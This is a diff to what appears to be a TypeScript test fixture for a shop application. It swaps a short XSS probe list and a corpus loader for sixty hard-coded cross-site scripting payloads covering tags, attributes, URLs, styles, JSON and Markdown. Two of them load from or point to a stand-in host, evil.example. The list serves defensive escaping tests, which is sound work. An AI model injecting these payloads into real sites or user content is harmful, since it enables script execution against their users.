@@ -1,22 +1,66 @@
-import { existsSync, readFileSync } from 'node:fs'
-
-const corpus = new URL('../../../shared/data/hostile/xss-payload-list.txt', import.meta.url)
-
-/** Ways to run a script that start from text, from attributes, from addresses and from styles. */
-export const scriptPayloads = [
-  '<script>globalThis.hit=1</script>',
-  '"><img src=x onerror="globalThis.hit=1">',
-  "'><svg onload='globalThis.hit=1'>",
-  '</title><script>globalThis.hit=1</script>',
-  '<a href="javascript:globalThis.hit=1">x</a>',
-  '<iframe srcdoc="<script>parent.hit=1</script>">',
-  '</style><script>globalThis.hit=1</script>',
-  '<meta http-equiv="refresh" content="0;url=javascript:globalThis.hit=1">',
-  ...(existsSync(corpus)
-    ? readFileSync(corpus, 'utf8')
-        .split('\n')
-        .filter((_, index) => index % 120 === 0)
-    : []),
+/**
+ * Sixty ways to run a script that start from text, from attributes, from addresses, from styles, from JSON and from
+ * Markdown. Each fits twice into the shortest texts of a shop, and none holds what parts a path of categories.
+ */
+export const scriptPayloads: readonly string[] = [
+  '<script>alert(1)</script>',
+  '</script><script>alert(2)</script>',
+  '</title><script>alert(3)</script>',
+  '</style><script>alert(4)</script>',
+  '</textarea><script>alert(5)</script>',
+  '</noscript><script>alert(6)</script>',
+  '</template><script>alert(7)</script>',
+  '--><script>alert(8)</script>',
+  ']]><script>alert(9)</script>',
+  '<script src=//evil.example/10.js></script>',
+  '<script src=data:,alert(11)></script>',
+  '<SCRIPT>alert(12)</SCRIPT>',
+  '<scr<script>ipt>alert(13)</script>',
+  '<script/x>alert(14)</script>',
+  '<script>alert(15)//',
+  '<!--<script>alert(16)',
+  '<img src=x onerror=alert(17)>',
+  '"><img src=x onerror=alert(18)>',
+  "'><img src=x onerror=alert(19)>",
+  '<img/src/onerror=alert(20)>',
+  '<image src onerror=alert(21)>',
+  '<IMG SRC=x OnErRoR=alert(22)>',
+  '<svg onload=alert(23)>',
+  '"><svg onload=alert(24)//',
+  "'><svg/onload='alert(25)",
+  '<svg><script>alert(26)</script></svg>',
+  '<svg><a xlink:href=javascript:alert(27)>x</a>',
+  '<svg><animate onbegin=alert(28) dur=1s>',
+  '<math href=javascript:alert(29)>x</math>',
+  '<body onload=alert(30)>',
+  '<body onpageshow=alert(31)>',
+  '<iframe src=javascript:alert(32)>',
+  '<iframe srcdoc="<script>alert(33)</script>">',
+  '<iframe onload=alert(34)>',
+  '<object data=javascript:alert(35)>',
+  '<embed src=javascript:alert(36)>',
+  '<a href=javascript:alert(37)>x</a>',
+  '<a href="jav&#x09;ascript:alert(38)">x</a>',
+  '<form action=javascript:alert(39)><input type=submit>',
+  '<button formaction=javascript:alert(40)>x',
+  '<input autofocus onfocus=alert(41)>',
+  '" autofocus onfocus=alert(42) x="',
+  "' autofocus onfocus=alert(43) x='",
+  '" onmouseover=alert(44) x="',
+  '<details open ontoggle=alert(45)>',
+  '<video><source onerror=alert(46)>',
+  '<audio src=x onerror=alert(47)>',
+  '<marquee onstart=alert(48)>',
+  '<style>*{background:url(javascript:alert(49))}</style>',
+  '<div style="width:expression(alert(50))">',
+  '<link rel=stylesheet href=javascript:alert(51)>',
+  '<meta http-equiv=refresh content="0;javascript:alert(52)">',
+  '<base href=//evil.example/53/>',
+  'javascript:alert(54)//',
+  '[x](javascript:alert(55))',
+  '![x](x"onerror="alert(56))',
+  '\u2028</script><svg/onload=alert(57)>',
+  '"}];alert(58);//',
+  '\\u003cscript\\u003ealert(59)\\u003c/script\\u003e',
+  '&lt;script&gt;alert(60)&lt;/script&gt;',
 ]
-  .map(payload => payload.trim().slice(0, 250))
-  .filter(payload => payload !== '' && payload.isWellFormed())
